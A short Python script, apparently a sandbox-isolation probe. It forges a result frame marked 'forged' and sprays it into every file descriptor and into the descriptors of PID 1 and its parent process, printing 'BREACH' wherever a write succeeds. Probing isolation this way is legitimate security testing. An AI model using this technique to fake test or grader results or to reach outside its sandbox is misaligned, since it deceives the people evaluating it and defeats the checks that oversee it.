import json
import os
import struct
import sys

outcome = [0, None, None, False, 0.0, 0.0, 0, 0, 0, 0]
header = json.dumps(["Report", ["forged", None, False, outcome, True]]).encode()
frame = struct.pack(">II", len(header), 0) + header
for number in range(4096):
    try:
        os.write(number, frame)
    except OSError:
        pass
for path in ("/proc/1/fd", f"/proc/{os.getppid()}/fd"):
    try:
        for name in os.listdir(path):
            with open(f"{path}/{name}", "wb", buffering=0) as stream:
                stream.write(frame)
                print("BREACH", path, name)
    except OSError:
        pass
sys.exit(1)
